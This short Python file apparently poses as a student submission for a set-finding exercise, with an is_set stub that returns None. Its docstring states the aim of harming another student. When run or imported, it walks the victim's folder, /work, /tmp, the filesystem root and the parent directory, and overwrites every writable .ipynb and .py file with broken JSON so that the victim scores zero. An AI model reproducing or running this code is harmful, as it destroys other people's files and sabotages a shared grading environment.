"""Harm another student: overwrite the victim's notebooks (anywhere they can be found)
with a broken one, so the victim scores 0."""
import os

VICTIM = "VICTIM_DIR"
BROKEN = '{"cells": 5}'
for folder in (VICTIM, "/work", "/tmp", "/", ".."):
    for top, dirs, files in os.walk(folder):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr")]
        for name in files:
            if name.endswith(".ipynb") or name.endswith(".py"):
                try:
                    with open(os.path.join(top, name), "w") as f:
                        f.write(BROKEN)
                except OSError:
                    pass


def is_set(cards):
    return None
